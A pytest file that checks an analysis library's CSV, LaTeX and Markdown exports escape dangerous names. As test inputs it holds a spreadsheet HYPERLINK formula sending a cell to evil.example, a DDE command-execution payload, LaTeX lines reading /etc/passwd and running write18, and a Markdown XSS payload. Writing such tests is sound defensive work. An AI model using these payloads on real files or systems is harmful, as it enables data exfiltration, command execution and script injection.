"""Names with signs that mean something to a spreadsheet, to LaTeX and to Markdown."""

import csv
import io
import re

import pandas as pd
import pytest

from auclab._core.words import no_formula
from auclab.runs import compare_runs
from auclab.runs.compare import formats
from composed import run_here
from made_runs import table_of

FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"click")'
STARTS = ("=1+1", "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", " =1", "＝1+1")


def table(first, second="b", metric_seed=0):
    """Two columns on two rows, named as an attacker likes."""
    scores = {(row, column): [0.9, 0.8, 0.85] for row in (first, "row") for column in (second, "other")}
    scores[first, "other"] = [0.91, 0.83, 0.8]
    return compare_runs(table_of(scores))


@pytest.mark.parametrize("name", [*STARTS, FORMULA], ids=repr)
def test_no_cell_of_an_exported_table_is_a_formula(name):
    for text in (formats.to_csv(table(name, name)), formats.to_values(table(name, name))):
        cells = [cell for line in csv.reader(io.StringIO(text, newline="")) for cell in line]
        assert f"'{name.replace(chr(9), ' ').replace(chr(13), ' ')}" in cells
        assert "\r" not in text
        starts = [cell for cell in cells if re.match(r"\s*[=+@＝-]|[\t\r]", cell) and not is_number(cell)]
        assert starts == []


def is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_numbers_stay_numbers():
    for text in ("-1", "-1.5e-3", "+2", "-inf", "-0.0"):
        assert no_formula(text) == text
    worse = {("row", name): [-0.5, -0.25] for name in ("a", "b")}
    lines = list(csv.DictReader(io.StringIO(formats.to_csv(compare_runs(table_of(worse))))))
    assert [line["mean"] for line in lines] == ["-0.375", "-0.375"]
    values = list(csv.DictReader(io.StringIO(formats.to_values(compare_runs(table_of(worse))))))
    assert [value["a"] for value in values] == ["-0.5", "-0.25"]


def test_latex_reads_no_file_and_runs_no_command():
    """A line break ends a comment, what follows it is LaTeX; a bracket after a line's end is an argument."""
    attack = "x\n\\input{/etc/passwd}\n\\immediate\\write18{id} ^^5cinput & % $y$ {"
    found = table(attack, "[9cm] *")
    notes = (*found.notes, f"left out: {attack}")
    text = formats.to_latex(type(found)(**{**vars(found), "notes": notes}))
    body = re.sub(r"(?m)(?<!\\)%.*$", "", text)
    assert "input{/etc" not in body
    assert r"\immediate" not in body
    assert "^^" not in body
    assert not re.search(r"\\\\\s*[\[*]", body)
    assert body.count("{") - body.count(r"\{") == body.count("}") - body.count(r"\}")
    assert len([line for line in text.splitlines() if "/etc/passwd" in line and line.startswith("%")]) >= 1


def test_markdown_has_no_html_no_link_and_no_cells_of_a_name():
    attack = "a|b <img src=x onerror=alert(1)> [click](javascript:alert(1)) `c` &lt;"
    text = formats.to_markdown(table(attack, attack))
    assert "<" not in text
    assert not re.search(r"(?<!\\)\[", text)
    rows = [re.findall(r"(?<!\\)\|", line) for line in text.splitlines() if line.startswith("| ")]
    assert len({len(row) for row in rows[:3]}) == 1


@pytest.mark.slow
def test_coefficients_have_no_formula_of_a_data_file(tmp_path):
    """A column of the data is named by who made them, and the file is opened with a spreadsheet program."""
    data = pd.DataFrame({FORMULA: [0.0, 1.0, 2.0, 3.0], "-2": [1.0, 0.0, 1.0, 0.0], "y": [0, 1, 0, 1]})
    data.to_csv(tmp_path / "x.csv", index=False)
    words = ["dataset=file", f"dataset.path={tmp_path / 'x.csv'}", "dataset.target=y", "split=none", "bounds=none"]
    run_here(tmp_path / "out", *words, "solver=newton", "formulation=ranksvm")
    kept = pd.read_csv(tmp_path / "out" / "coefficients.csv", dtype=str)
    assert kept["feature"].tolist() == [f"'{FORMULA}", "-2", "(intercept)"]
